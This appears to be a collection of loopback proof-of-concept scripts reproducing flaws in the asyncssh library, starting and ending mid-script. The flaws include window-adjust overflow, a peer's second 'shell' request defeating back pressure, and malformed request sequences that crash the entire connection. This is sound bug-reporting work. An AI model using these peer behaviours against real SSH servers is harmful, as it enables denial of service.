        self.close_delay = close_delay
    def connection_made(self, chan): self.chan = chan
    def shell_requested(self): return True
    def session_started(self):
        self.chan.write(b'hello')
        self.chan.write_eof()
        if self.close_delay:        # control: CLOSE arrives after delivery
            asyncio.get_event_loop().call_later(self.close_delay,
                                                self.chan.exit, 0)
        else:
            self.chan.exit(0)

class SrvOnDemand(asyncssh.SSHServerSession):
    """Sender-side variant: answers the first input with 100 bytes, EOF and
       exit while the peer's window (16 bytes) is far too small, so the data
       and the EOF are still queued in the channel when close() is called"""
    def connection_made(self, chan): self.chan = chan
    def shell_requested(self): return True
    def data_received(self, data, datatype):
        self.chan.write(b'x' * 100)
        self.chan.write_eof()
        self.chan.exit(0)

class Cli(asyncssh.SSHClientSession):
    def __init__(self, pause):
        self.pause = pause
        self.events = []
        self.closed = asyncio.Event()
    def connection_made(self, chan): self.chan = chan
    def session_started(self):
        if self.pause:
            self.chan.pause_reading()
    def data_received(self, data, datatype): self.events.append(('data', data))
    def eof_received(self): self.events.append(('eof',))
    def connection_lost(self, exc):
        self.events.append(('lost', exc))
        self.closed.set()

async def one(pause, close_delay=0):
    server, conn = await start(session=lambda c: Srv(close_delay))
    chan, sess = await conn.create_session(lambda: Cli(pause), encoding=None)
    await asyncio.sleep(0.5)        # data, EOF, exit-status and CLOSE are in
    chan.resume_reading()           # no-op when reading was never paused
    await asyncio.wait_for(sess.closed.wait(), 5)
    conn.close(); server.close()
    return sess.events

async def sender_side():
    server, conn = await start(session=lambda c: SrvOnDemand())
    chan, sess = await conn.create_session(lambda: Cli(False), encoding=None,
                                           window=16)
    await asyncio.sleep(0.3)        # receiver is up, reading, never paused
    chan.write(b'go')
    await asyncio.wait_for(sess.closed.wait(), 5)
    conn.close(); server.close()
    data = b''.join(e[1] for e in sess.events if e[0] == 'data')
    return [('data', len(data))] + [e for e in sess.events if e[0] != 'data']

async def main():
    rc = 0
    events = await one(False, close_delay=1)
    print(f'control, CLOSE sent 1s after EOF, reader never paused: {events}')
    if events != [('data', b'hello'), ('eof',), ('lost', None)]:
        print('FAIL: control case broken'); rc = 1
    for pause in (False, True):
        events = await one(pause)
        print(f'EOF and CLOSE sent together, reader paused={pause!s:5}: {events}')
        if events != [('data', b'hello'), ('eof',), ('lost', None)]:
            print('FAIL: sender signalled EOF but eof_received() was never '
                  'called on the receiving session')
            rc = 1
    events = await sender_side()
    print(f'write(100 bytes); write_eof(); exit(0) into a 16-byte window, '
          f'reader never paused: {events}')
    if events != [('data', 100), ('eof',), ('lost', None)]:
        print('FAIL: close() replaced the queued EOF (eof_pending -> '
              'close_pending); EOF was never sent')
        rc = 1
    if not rc:
        print('OK')
    return rc

run(main)
