"""C08 (WINDOW_ADJUST overflow): _process_window_adjust() adds the adjustment
to an unbounded Python int.  RFC 4254 5.2: the window MUST NOT be increased
above 2^32-1.  A peer whose adjustments push the window past 2^32-1 is
neither rejected nor clamped; asyncssh then believes it may send more bytes
than any SSH peer can ever have granted (a peer doing uint32 arithmetic has
wrapped around to a small window)."""
import asyncio, asyncssh
from asyncssh.constants import MSG_CHANNEL_WINDOW_ADJUST
from asyncssh.packet import UInt32

# ---- loopback harness (no auth, ed25519 host key, bytes mode) ----
import sys

class NoAuthServer(asyncssh.SSHServer):
    def __init__(self, **hooks):
        self._hooks = hooks
    def connection_made(self, conn):
        self._conn = conn
    def begin_auth(self, username):
        return False
    def session_requested(self):
        f = self._hooks.get('session')
        return f(self._conn) if f else False
    def tun_requested(self, unit):
        f = self._hooks.get('tun')
        return f(self._conn, unit) if f else False
    def tap_requested(self, unit):
        f = self._hooks.get('tap')
        return f(self._conn, unit) if f else False
    def connection_requested(self, dest_host, dest_port, orig_host, orig_port):
        f = self._hooks.get('tcp')
        return f(self._conn, dest_host, dest_port) if f else False

async def start(server_encoding=None, listen_args=None, **hooks):
    key = asyncssh.generate_private_key('ssh-ed25519')
    server = await asyncssh.listen('127.0.0.1', 0, server_host_keys=[key],
                                   server_factory=lambda: NoAuthServer(**hooks),
                                   encoding=server_encoding, line_editor=False,
                                   **(listen_args or {}))
    port = server.sockets[0].getsockname()[1]
    conn = await asyncssh.connect('127.0.0.1', port, known_hosts=None,
                                  username='u', client_keys=None,
                                  config=None)
    return server, conn

def run(main):
    async def wrapper():
        try:
            return await asyncio.wait_for(main(), 60)
        except asyncio.TimeoutError:
            print('FAIL: demo did not finish within 60s (hang)')
            return 1
    rc = asyncio.run(wrapper())
    sys.exit(rc)
# ---- end of harness ----

class Srv(asyncssh.SSHServerSession):
    def connection_made(self, chan): self.chan = chan
    def shell_requested(self): return True

class Cli(asyncssh.SSHClientSession):
    def __init__(self): self.lost = None
    def connection_lost(self, exc): self.lost = ('lost', exc)

async def main():
    srv = Srv()
    server, conn = await start(session=lambda c: srv)
    chan, sess = await conn.create_session(Cli, encoding=None)
    before = chan._send_window
    # peer (hand-driven server side) grants 2 * (2^32-1) more bytes
    srv.chan.send_packet(MSG_CHANNEL_WINDOW_ADJUST, UInt32(0xffffffff))
    srv.chan.send_packet(MSG_CHANNEL_WINDOW_ADJUST, UInt32(0xffffffff))
    await asyncio.sleep(0.5)
    after = chan._send_window
    print(f'send window before {before}, after two adjusts of 2^32-1: {after} '
          f'(2^32-1 = {0xffffffff}); channel: {sess.lost or "still open"}')
    if sess.lost is None and after > 0xffffffff:
        print('FAIL: window overflow accepted; the endpoint is now willing to '
              'send more than a peer window can ever hold')
        return 1
    print('OK')
    return 0

run(main)
