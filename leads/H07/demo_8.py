"""C07 (text mode, codecs with a byte order mark: utf-16, utf-32, utf-8-sig):
the receiving side now keeps one incremental decoder per data type, but the
sending side still has a single incremental encoder for the whole channel
(set_encoding()).  The encoder emits its BOM once - in front of whichever
data type is written first.  The other data type's stream goes out without a
BOM, yet the peer's fresh decoder for that type treats a leading U+FEFF as
the BOM and swallows it.  So the same text survives on one data type and
loses its first character on the other, depending on write order."""
import asyncio, asyncssh

# ---- loopback harness (no auth, ed25519 host key, bytes mode) ----
import sys

class NoAuthServer(asyncssh.SSHServer):
    def __init__(self, **hooks):
        self._hooks = hooks
    def connection_made(self, conn):
        self._conn = conn
    def begin_auth(self, username):
        return False
    def session_requested(self):
        f = self._hooks.get('session')
        return f(self._conn) if f else False
    def tun_requested(self, unit):
        f = self._hooks.get('tun')
        return f(self._conn, unit) if f else False
    def tap_requested(self, unit):
        f = self._hooks.get('tap')
        return f(self._conn, unit) if f else False
    def connection_requested(self, dest_host, dest_port, orig_host, orig_port):
        f = self._hooks.get('tcp')
        return f(self._conn, dest_host, dest_port) if f else False

async def start(server_encoding=None, listen_args=None, **hooks):
    key = asyncssh.generate_private_key('ssh-ed25519')
    server = await asyncssh.listen('127.0.0.1', 0, server_host_keys=[key],
                                   server_factory=lambda: NoAuthServer(**hooks),
                                   encoding=server_encoding, line_editor=False,
                                   **(listen_args or {}))
    port = server.sockets[0].getsockname()[1]
    conn = await asyncssh.connect('127.0.0.1', port, known_hosts=None,
                                  username='u', client_keys=None,
                                  config=None)
    return server, conn

def run(main):
    async def wrapper():
        try:
            return await asyncio.wait_for(main(), 60)
        except asyncio.TimeoutError:
            print('FAIL: demo did not finish within 60s (hang)')
            return 1
    rc = asyncio.run(wrapper())
    sys.exit(rc)
# ---- end of harness ----

TEXT = '﻿hello'        # ZERO WIDTH NO-BREAK SPACE is a legal character

class Srv(asyncssh.SSHServerSession):
    def connection_made(self, chan): self.chan = chan
    def shell_requested(self): return True
    def session_started(self):
        self.chan.write(TEXT)
        self.chan.write_stderr(TEXT)
        self.chan.write_eof()
        asyncio.get_event_loop().call_later(0.5, self.chan.exit, 0)

async def main():
    rc = 0
    for enc in ('utf-16', 'utf-32', 'utf-8-sig'):
        server, conn = await start(server_encoding=enc, session=lambda c: Srv())
        r = await asyncio.wait_for(conn.run(encoding=enc), 10)
        conn.close(); server.close()
        print(f'{enc:9}: wrote {TEXT!r} to stdout and to stderr; '
              f'read stdout {r.stdout!r}, stderr {r.stderr!r}')
        if r.stdout != TEXT or r.stderr != TEXT:
            rc = 1
    if rc:
        print('FAIL: the first character written to the second data type '
              'was lost')
    else:
        print('OK')
    return rc

run(main)
