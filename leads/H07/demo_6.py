"""C08 (pause patterns / back pressure): a server-side session that has
paused reading gets data delivered anyway.

 a) SSHChannel._report_response() calls resume_reading() unconditionally
    after session_started(), so a pause_reading() made in session_started()
    (or connection_made()/shell_requested()) is silently undone.  The client
    side honours exactly this pattern ('starting' state in _start_reading).
 b) It does so for *every* successful shell/exec/subsystem request, so a
    peer can un-pause a reader that paused later on by just sending a second
    'shell' request: the receive window is then replenished and data keeps
    being delivered while the application has reading paused.
"""
import asyncio, asyncssh
from asyncssh.packet import String, Boolean

# ---- loopback harness (no auth, ed25519 host key, bytes mode) ----
import sys

class NoAuthServer(asyncssh.SSHServer):
    def __init__(self, **hooks):
        self._hooks = hooks
    def connection_made(self, conn):
        self._conn = conn
    def begin_auth(self, username):
        return False
    def session_requested(self):
        f = self._hooks.get('session')
        return f(self._conn) if f else False
    def tun_requested(self, unit):
        f = self._hooks.get('tun')
        return f(self._conn, unit) if f else False
    def tap_requested(self, unit):
        f = self._hooks.get('tap')
        return f(self._conn, unit) if f else False
    def connection_requested(self, dest_host, dest_port, orig_host, orig_port):
        f = self._hooks.get('tcp')
        return f(self._conn, dest_host, dest_port) if f else False

async def start(server_encoding=None, listen_args=None, **hooks):
    key = asyncssh.generate_private_key('ssh-ed25519')
    server = await asyncssh.listen('127.0.0.1', 0, server_host_keys=[key],
                                   server_factory=lambda: NoAuthServer(**hooks),
                                   encoding=server_encoding, line_editor=False,
                                   **(listen_args or {}))
    port = server.sockets[0].getsockname()[1]
    conn = await asyncssh.connect('127.0.0.1', port, known_hosts=None,
                                  username='u', client_keys=None,
                                  config=None)
    return server, conn

def run(main):
    async def wrapper():
        try:
            return await asyncio.wait_for(main(), 60)
        except asyncio.TimeoutError:
            print('FAIL: demo did not finish within 60s (hang)')
            return 1
    rc = asyncio.run(wrapper())
    sys.exit(rc)
# ---- end of harness ----

class Srv(asyncssh.SSHServerSession):
    def __init__(self, pause_at_start):
        self.pause_at_start = pause_at_start
        self.paused = False
        self.while_paused = []
        self.normal = []
    def connection_made(self, chan): self.chan = chan
    def shell_requested(self): return True
    def pause(self):
        self.chan.pause_reading()
        self.paused = True
    def session_started(self):
        if self.pause_at_start:
            self.pause()
    def data_received(self, data, datatype):
        (self.while_paused if self.paused else self.normal).append(data)
        if not self.pause_at_start and not self.paused:
            self.pause()                    # pause after the first chunk

class Cli(asyncssh.SSHClientSession):
    pass

async def scenario(pause_at_start, second_shell):
    srv = []
    def new(conn):
        srv.append(Srv(pause_at_start)); return srv[0]
    server, conn = await start(session=new, listen_args=dict(window=4096))
    chan, sess = await conn.create_session(Cli, encoding=None)
    chan.write(b'A' * 100)
    await asyncio.sleep(0.3)
    if second_shell:
        # what any non-asyncssh client may put on the wire
        chan.send_packet(asyncssh.constants.MSG_CHANNEL_REQUEST,
                         String('shell'), Boolean(False))
    for _ in range(50):                     # 50 KiB, many times the window
        chan.write(b'B' * 1024)
    await asyncio.sleep(1.0)
    s = srv[0]
    unsent = chan.get_write_buffer_size()
    conn.close(); server.close()
    return s, unsent

async def stream_scenario(second_shell):
    """Same attack against the stream API: the handler never reads stdin"""
    readers = []
    async def handler(stdin, stdout, stderr):
        readers.append(stdin)
        await asyncio.sleep(30)
    server, conn = await start(listen_args=dict(window=4096,
                                                session_factory=handler))
    chan, sess = await conn.create_session(Cli, encoding=None)
    chan.write(b'A' * 4096)                 # fills the window: reader pauses
    await asyncio.sleep(0.3)
    if second_shell:
        chan.send_packet(asyncssh.constants.MSG_CHANNEL_REQUEST,
                         String('shell'), Boolean(False))
    for _ in range(200):
        chan.write(b'B' * 1024)
    await asyncio.sleep(1.0)
    buffered = readers[0]._session._recv_buf_len
    unsent = chan.get_write_buffer_size()
    conn.close(); server.close()
    return buffered, unsent

async def main():
    rc = 0
    s, unsent = await scenario(pause_at_start=True, second_shell=False)
    n = sum(map(len, s.while_paused))
    print(f'a) pause_reading() in session_started(): {n} bytes delivered '
          f'while paused, sender still holds {unsent} bytes')
    if n:
        print('FAIL: data delivered although the session paused reading '
              'before any data arrived'); rc = 1

    s, unsent = await scenario(pause_at_start=False, second_shell=False)
    n = sum(map(len, s.while_paused))
    print(f'control) pause in data_received, well-behaved peer: {n} bytes '
          f'delivered while paused, sender still holds {unsent} bytes')

    s, unsent = await scenario(pause_at_start=False, second_shell=True)
    n = sum(map(len, s.while_paused))
    print(f'b) pause in data_received, peer sends a 2nd "shell" request: '
          f'{n} bytes delivered while paused, sender still holds {unsent} bytes')
    if n:
        print('FAIL: the peer un-paused the reader; back pressure is gone '
              '(window 4096, far more delivered while paused)'); rc = 1
    buffered, unsent = await stream_scenario(False)
    print(f'control) stream server, handler never reads: {buffered} bytes '
          f'buffered in the server, sender still holds {unsent} bytes')
    buffered, unsent = await stream_scenario(True)
    print(f'c) stream server, peer sends a 2nd "shell" request: {buffered} '
          f'bytes buffered in the server, sender still holds {unsent} bytes')
    if buffered > 4096:
        print('FAIL: server buffers far more than its 4096-byte window for '
              'an application that is not reading'); rc = 1
    if not rc:
        print('OK')
    return rc

run(main)
