#!/usr/bin/env python
"""C09 demo 1: SSHWriter.drain() on a redirected stream never returns once
the channel goes away.

SSHProcess._should_block_drain() makes drain() wait for as long as a
redirect source is attached to the stream (``datatype in self._readers``) -
this is the documented way of waiting for a redirect to finish (see
examples/redirect_server.py: ``await process.redirect(stdout=...)`` followed
by ``await process.stdout.drain()``).

When the channel is closed (by the peer, or because the connection is lost)
SSHProcess.connection_lost() first calls SSHStreamSession.connection_lost(),
which tries to wake the drain waiters while self._readers is still
populated (so nothing is woken), and then throws the readers away with
``self._readers = {}`` without waking anybody.  The waiter is never
completed: drain() hangs forever and, because SSHConnection never cancels
the tasks it created, the server's process handler task is leaked for good.

Two scenarios are run, on the server (stdout redirected from a pipe):
  A. the client aborts the whole connection
  B. the client just closes the channel (connection stays up)
In both, the handler must leave drain() (return or raise) once the channel
is gone.

Exit status 0: drain() finished in both scenarios.  Non-zero: hang.
"""

import asyncio
import os
import sys

import asyncssh


async def scenario(name, drop):
    """Run one scenario, returning a description of what went wrong"""

    hostkey = asyncssh.generate_private_key('ssh-ed25519')
    rfd, wfd = os.pipe()
    state = {'drain': 'not started', 'lost': False}
    handler_done = asyncio.Event()

    class Server(asyncssh.SSHServer):
        def begin_auth(self, username):
            return False        # no auth needed

        def connection_lost(self, exc):
            state['lost'] = True

    async def handler(process):
        # Same shape as examples/redirect_server.py
        await process.redirect(stdout=os.fdopen(rfd, 'rb', buffering=0))

        state['drain'] = 'waiting'

        try:
            await process.stdout.drain()
            state['drain'] = 'returned'
        except BaseException as exc: # pylint: disable=broad-except
            state['drain'] = f'raised {exc!r}'
        finally:
            handler_done.set()

        process.exit(0)

    acceptor = await asyncssh.listen('127.0.0.1', 0, server_host_keys=[hostkey],
                                     server_factory=Server,
                                     process_factory=handler)
    port = acceptor.sockets[0].getsockname()[1]

    conn = await asyncio.wait_for(
        asyncssh.connect('127.0.0.1', port, known_hosts=None, username='u'),
        10)

    proc = await asyncio.wait_for(conn.create_process('cat'), 10)

    # Prove the redirect is live: data written to the pipe reaches the client
    os.write(wfd, b'hello\n')
    line = await asyncio.wait_for(proc.stdout.readline(), 10)
    assert line == 'hello\n', line
    assert state['drain'] == 'waiting', state

    await drop(conn, proc)

    problem = None

    try:
        await asyncio.wait_for(handler_done.wait(), 3)
    except asyncio.TimeoutError:
        problem = (f'{name}: server handler still stuck in '
                   f'process.stdout.drain() 3s after the channel was closed '
                   f'(drain state: {state["drain"]}, server saw '
                   f'connection_lost: {state["lost"]}, channel closed: '
                   f'{proc.channel._close_event.is_set()})')

    print(f'{name}: drain {state["drain"]}')

    os.close(wfd)
    conn.abort()
    acceptor.close()

    return problem


async def drop_connection(conn, _proc):
    conn.abort()
    await asyncio.wait_for(conn.wait_closed(), 10)


async def close_channel(_conn, proc):
    proc.close()
    await asyncio.wait_for(proc.wait_closed(), 10)


async def main():
    problems = []

    for name, drop in (('A (connection aborted)', drop_connection),
                       ('B (channel closed by peer)', close_channel)):
        problem = await scenario(name, drop)

        if problem:
            problems.append(problem)

    for problem in problems:
        print('VIOLATION:', problem)

    return 1 if problems else 0


if __name__ == '__main__':
    try:
        sys.exit(asyncio.run(asyncio.wait_for(main(), 60)))
    except asyncio.TimeoutError:
        print('VIOLATION: demo itself timed out')
        sys.exit(2)
