#!/usr/bin/env python
"""C09 demo 3: channel requests queued behind an asynchronous one are still
serviced after the channel has been closed and cleaned up - and the
resulting exception takes the whole SSH connection (and every other
channel on it) down.

SSHServerChannel answers 'auth-agent-req@openssh.com' and 'x11-req'
asynchronously: the handler returns None, a task is started
(_finish_agent_req_request / _finish_x11_req_request) and later requests
wait in self._request_queue until that task calls _report_response().

SSHChannel._cleanup() (run when the peer's CHANNEL_CLOSE has been processed)
sets self._session = None and self._conn = None but neither clears
_request_queue nor stops the pending task.  When the task completes it
calls _report_response(), which goes on to _service_next_request() for
the next queued request on the dead channel:

    'exec'/'shell'/'subsystem'/'pty-req' -> self._conn.get_certificate_option(...)
                                            with self._conn None
    'signal'/'window-change'/'break'     -> self._session.xxx()
                                            with self._session None

The AttributeError escapes from a task created with conn.create_task(),
so SSHConnection._reap_task() -> internal_error() -> _force_close():
the complete connection is dropped and every unrelated channel on it dies.

The peer behaviour needed is entirely legal:
    CHANNEL_OPEN "session"
    CHANNEL_REQUEST auth-agent-req@openssh.com  (want_reply false)
    CHANNEL_REQUEST exec "..."                  (want_reply true)
    CHANNEL_CLOSE
all sent back to back (a client that gives up on a session at once).

Exit status 0: the second, healthy channel on the same connection keeps
working after the first channel is closed.  Non-zero otherwise.
"""

import asyncio
import os
import sys
import tempfile

import asyncssh
from asyncssh.channel import SSHClientChannel
from asyncssh.packet import String

_TMP = os.path.join(os.path.dirname(os.path.abspath(__file__)), 'demo_tmp')
os.makedirs(_TMP, exist_ok=True)
tempfile.tempdir = _TMP        # the agent listener's socket goes in here


async def main():
    events = []

    class Server(asyncssh.SSHServer):
        def begin_auth(self, username):
            return False

        def connection_lost(self, exc):
            events.append(f'server connection_lost({exc!r})')

    async def handler(process):
        events.append(f'handler for {process.command!r} started')

        try:
            async for line in process.stdin:
                process.stdout.write(line)
        except Exception as exc: # pylint: disable=broad-except
            events.append(f'handler for {process.command!r} got {exc!r}')

        process.exit(0)

    hostkey = asyncssh.generate_private_key('ssh-ed25519')
    listener = await asyncssh.listen('127.0.0.1', 0, server_host_keys=[hostkey],
                                     server_factory=Server,
                                     process_factory=handler)
    port = listener.sockets[0].getsockname()[1]

    conn = await asyncio.wait_for(
        asyncssh.connect('127.0.0.1', port, known_hosts=None, username='u'),
        10)

    # An ordinary, healthy session on the connection
    good = await asyncio.wait_for(conn.create_process('echo-service'), 10)
    good.stdin.write('ping 1\n')
    assert await asyncio.wait_for(good.stdout.readline(), 10) == 'ping 1\n'

    # A second session, hand-driven so that the requests and the close
    # leave back to back (SSHClientChannel.create() would wait for replies)
    chan = SSHClientChannel(conn, asyncio.get_event_loop(), 'strict',
                            None, 'strict', 2*1024*1024, 32768)
    await asyncio.wait_for(chan._open(b'session'), 10)

    chan._send_request(b'auth-agent-req@openssh.com')
    chan._send_request(b'exec', String(b'short-lived'), want_reply=True)
    chan.close()

    await asyncio.wait_for(chan.wait_closed(), 10)
    await asyncio.sleep(0.3)

    # The healthy session must be unaffected by the other channel closing
    problem = None

    try:
        good.stdin.write('ping 2\n')
        reply = await asyncio.wait_for(good.stdout.readline(), 5)

        if reply != 'ping 2\n':
            problem = f'healthy channel returned {reply!r}'
    except (OSError, asyncssh.Error, asyncio.TimeoutError) as exc:
        problem = f'healthy channel is dead: {exc!r}'

    for event in events:
        print(' ', event)

    print(f'client connection closed: {conn.is_closed()}')

    conn.abort()
    listener.close()

    if problem:
        print('VIOLATION: closing one channel killed the connection -',
              problem)
        return 1

    return 0


if __name__ == '__main__':
    try:
        sys.exit(asyncio.run(asyncio.wait_for(main(), 60)))
    except asyncio.TimeoutError:
        print('VIOLATION: demo itself timed out')
        sys.exit(2)
