#!/usr/bin/env python
"""C09 demo 5: SFTP requests outstanding when the connection goes down are
never completed if the connection was closed with an exception that is
neither an OSError nor an asyncssh.Error.

SFTPHandler.recv_packets() (sftp.py) is the only place from which
SFTPClientHandler._cleanup() - which fails every waiter in self._requests -
is ever called, and it is reached only through

        except PacketDecodeError ...
        except EOFError ...
        except (OSError, Error) as exc:
            await self._cleanup(exc)

SSHConnection.internal_error() force-closes a connection with *whatever*
exception escaped from packet processing or from one of the connection's
tasks (ValueError, AttributeError, KeyError, ...).  Every channel's session
gets connection_lost(that exception), SSHStreamSession hands it to the
reader, recv_packets() dies on it without running _cleanup(), and the
futures of all SFTP requests in flight stay pending for ever: sftp.stat(),
get(), put(), ... hang although the connection is long closed.  (Requests
issued afterwards do fail, with BrokenPipe -> SFTPConnectionLost.)

Here the internal error is an application callback raising ValueError on
another channel of the same connection; a peer can cause one as well (see
demo 6: AttributeError).

Exit status 0: the pending sftp.stat() completes or raises within 3s of the
connection closing.  Non-zero: it hangs.
"""

import asyncio
import sys

import asyncssh


async def main():
    never = asyncio.Event()

    class Server(asyncssh.SSHServer):
        def begin_auth(self, username):
            return False

    class SlowSFTPServer(asyncssh.SFTPServer):
        """stat takes its time, so the request is in flight for a while"""

        async def stat(self, path):
            await never.wait()

    async def handler(process):
        process.stdout.write('some output\n')
        await process.stdin.read()
        process.exit(0)

    hostkey = asyncssh.generate_private_key('ssh-ed25519')
    listener = await asyncssh.listen('127.0.0.1', 0, server_host_keys=[hostkey],
                                     server_factory=Server,
                                     process_factory=handler,
                                     sftp_factory=SlowSFTPServer)
    port = listener.sockets[0].getsockname()[1]

    lost = []

    class Client(asyncssh.SSHClient):
        def connection_lost(self, exc):
            lost.append(exc)

    conn = await asyncio.wait_for(
        asyncssh.connect('127.0.0.1', port, known_hosts=None, username='u',
                         client_factory=Client), 10)

    sftp = await asyncio.wait_for(conn.start_sftp_client(), 10)
    pending_stat = asyncio.ensure_future(sftp.stat('/'))
    await asyncio.sleep(0.2)
    assert not pending_stat.done()

    class BuggySession(asyncssh.SSHClientSession):
        def data_received(self, data, datatype):
            raise ValueError('bug in an application callback')

    await asyncio.wait_for(conn.create_session(BuggySession, 'x'), 10)
    await asyncio.wait_for(conn.wait_closed(), 10)

    print(f'connection closed, SSHClient.connection_lost({lost[0]!r})')

    problem = None

    try:
        await asyncio.wait_for(pending_stat, 3)
        print('sftp.stat() returned')
    except asyncio.TimeoutError:
        problem = ('sftp.stat() issued before the connection was lost is '
                   'still pending 3s after conn.wait_closed() returned')
    except (OSError, asyncssh.Error, ValueError) as exc:
        print(f'sftp.stat() raised {exc!r}')

    listener.close()

    if problem:
        print('VIOLATION:', problem)
        return 1

    return 0


if __name__ == '__main__':
    try:
        sys.exit(asyncio.run(asyncio.wait_for(main(), 60)))
    except asyncio.TimeoutError:
        print('VIOLATION: demo itself timed out')
        sys.exit(2)
