#!/usr/bin/env python
"""C09 demo 6: a channel request which arrives together with the
CHANNEL_OPEN_CONFIRMATION is dispatched to a session that doesn't exist
yet, and the AttributeError tears down the whole client connection.

SSHChannel.process_open_confirmation() marks the channel open and completes
self._open_waiter, but SSHClientChannel.create() only gets to run
``self._session = session_factory()`` when its task is resumed - one event
loop iteration later.  Packets which are already in the input buffer are
processed before that.  Data is held back (_recv_paused == 'starting'),
but channel requests are not: _process_request() -> _service_next_request()
-> _process_exit_status_request() does ``self._session.exit_status_received()``
with self._session still None (same for exit-signal and xon-xoff).

The AttributeError is raised inside SSHConnection._recv_data(), so
internal_error() force-closes the connection: every other channel is lost,
SSHClient.connection_lost() gets an AttributeError, and the opener sees
AttributeError instead of a channel error.

Peer behaviour needed (all legal on an open channel): a server that ends a
session at once, e.g. by policy -
    CHANNEL_OPEN_CONFIRMATION, CHANNEL_REQUEST exit-status, CHANNEL_CLOSE
written back to back.  Here: an SSHServerSession calling chan.exit() from
connection_made().

Exit status 0: the open fails (or succeeds) cleanly and a second, healthy
channel on the connection keeps working.  Non-zero otherwise.
"""

import asyncio
import sys

import asyncssh


async def main():
    class RefusingSession(asyncssh.SSHServerSession):
        """Policy: this session is over before it began"""

        def connection_made(self, chan):
            chan.exit(1)        # exit-status 1, then close

    class EchoSession(asyncssh.SSHServerSession):
        def connection_made(self, chan):
            self._chan = chan

        def exec_requested(self, command):
            return True

        def data_received(self, data, datatype):
            self._chan.write(data)

    class Server(asyncssh.SSHServer):
        def __init__(self):
            self._count = 0

        def begin_auth(self, username):
            return False

        def session_requested(self):
            self._count += 1
            return EchoSession() if self._count == 1 else RefusingSession()

    hostkey = asyncssh.generate_private_key('ssh-ed25519')
    listener = await asyncssh.listen('127.0.0.1', 0, server_host_keys=[hostkey],
                                     server_factory=Server)
    port = listener.sockets[0].getsockname()[1]

    lost = []

    class Client(asyncssh.SSHClient):
        def connection_lost(self, exc):
            lost.append(exc)

    conn = await asyncio.wait_for(
        asyncssh.connect('127.0.0.1', port, known_hosts=None, username='u',
                         client_factory=Client), 10)

    good = await asyncio.wait_for(conn.create_process('echo'), 10)
    good.stdin.write('ping 1\n')
    assert await asyncio.wait_for(good.stdout.readline(), 10) == 'ping 1\n'

    problems = []

    try:
        result = await asyncio.wait_for(conn.run('anything'), 10)
        print(f'conn.run() returned exit status {result.exit_status}')
    except (asyncssh.ChannelOpenError, asyncssh.ProcessError) as exc:
        print(f'conn.run() failed cleanly: {exc!r}')
    except Exception as exc: # pylint: disable=broad-except
        problems.append(f'conn.run() raised {exc!r}')

    await asyncio.sleep(0.2)

    if conn.is_closed():
        problems.append(f'the whole connection was closed: '
                        f'SSHClient.connection_lost({lost[0]!r})')

    try:
        good.stdin.write('ping 2\n')
        reply = await asyncio.wait_for(good.stdout.readline(), 5)

        if reply != 'ping 2\n':
            problems.append(f'healthy channel returned {reply!r}')
    except (OSError, asyncssh.Error, asyncio.TimeoutError) as exc:
        problems.append(f'healthy channel is dead: {exc!r}')

    conn.abort()
    listener.close()

    for problem in problems:
        print('VIOLATION:', problem)

    return 1 if problems else 0


if __name__ == '__main__':
    try:
        sys.exit(asyncio.run(asyncio.wait_for(main(), 60)))
    except asyncio.TimeoutError:
        print('VIOLATION: demo itself timed out')
        sys.exit(2)
