#!/usr/bin/env python
"""C09 demo 2: callbacks and a keepalive timer after the final
connection_lost() when the connection dies while an async begin_auth()
(or auth_completed()) is still running on the server.

SSHConnection._finish_userauth() awaits SSHServer.begin_auth().  That
coroutine runs in a task made by SSHConnection.create_task(), and
SSHConnection._cleanup() cancels only self._auth - never the tasks in
self._tasks.  So when the connection is lost (client goes away, or the
server's own login_timeout fires) while begin_auth() is pending, the task
survives.  When begin_auth() later returns False ("no auth needed"),
_finish_userauth() calls send_userauth_success() without looking at the
state of the connection.  On the already closed connection that:

  * marks auth complete and arms the keepalive timer again
    (_set_keepalive_timer()) - _cleanup() already cancelled it, nothing
    will ever cancel this one, and because _make_global_request() answers
    "failure" at once when there's no transport the keepalive count is
    reset every time: the timer re-arms itself forever on a dead connection;
  * invokes the listener's ``acceptor`` callback with the closed connection,
    after SSHServer.connection_lost() has already been delivered.

Here the server's login_timeout (0.3s) fires while begin_auth() is pending.

Exit status 0: nothing is delivered after connection_lost() and no timer
is left running.  Non-zero otherwise.
"""

import asyncio
import logging
import sys

import asyncssh


class _KeepaliveCounter(logging.Handler):
    """Count keepalive requests attempted by the server connection"""

    def __init__(self):
        super().__init__()
        self.count = 0

    def emit(self, record):
        if 'Sending keepalive request' in record.getMessage():
            self.count += 1


async def main():
    events = []
    gate = asyncio.Event()
    lost = asyncio.Event()

    counter = _KeepaliveCounter()
    asyncssh.set_log_level(logging.DEBUG)
    asyncssh.set_debug_level(1)
    logging.getLogger('asyncssh').addHandler(counter)
    logging.getLogger('asyncssh').propagate = False

    class Server(asyncssh.SSHServer):
        def connection_made(self, conn):
            events.append('connection_made')

        def connection_lost(self, exc):
            events.append(f'connection_lost({exc!r})')
            lost.set()

        async def begin_auth(self, username):
            events.append('begin_auth started')
            await gate.wait()   # e.g. a slow account database lookup
            events.append('begin_auth returned False')
            return False

        def auth_completed(self):
            events.append('auth_completed')

    def acceptor(conn):
        events.append(f'acceptor(conn.is_closed()={conn.is_closed()})')

    hostkey = asyncssh.generate_private_key('ssh-ed25519')

    listener = await asyncssh.listen('127.0.0.1', 0, server_host_keys=[hostkey],
                                     server_factory=Server, acceptor=acceptor,
                                     login_timeout=0.3, keepalive_interval=0.05)
    port = listener.sockets[0].getsockname()[1]

    try:
        await asyncio.wait_for(
            asyncssh.connect('127.0.0.1', port, known_hosts=None,
                             username='u'), 10)
        events.append('client: connect() succeeded?!')
    except (OSError, asyncssh.Error) as exc:
        print(f'client connect failed as expected: {exc!r}')

    # The server has been told its connection is gone (login timeout)
    await asyncio.wait_for(lost.wait(), 10)
    final = len(events)

    # Now the slow begin_auth() finishes
    gate.set()
    await asyncio.sleep(0.2)

    keepalives_before = counter.count
    await asyncio.sleep(0.5)
    keepalives_after = counter.count

    listener.close()

    print('server-side event order:')

    for i, event in enumerate(events):
        print(f'  {i+1}. {event}')

    problems = []
    late = [e for e in events[final:] if not e.startswith('begin_auth')]

    if late:
        problems.append(f'delivered after connection_lost(): {late}')

    if keepalives_after > keepalives_before:
        problems.append(
            f'keepalive timer running on the closed connection: '
            f'{keepalives_after} keepalive requests attempted so far, '
            f'{keepalives_after - keepalives_before} of them in the last 0.5s')

    for problem in problems:
        print('VIOLATION:', problem)

    return 1 if problems else 0


if __name__ == '__main__':
    try:
        sys.exit(asyncio.run(asyncio.wait_for(main(), 60)))
    except asyncio.TimeoutError:
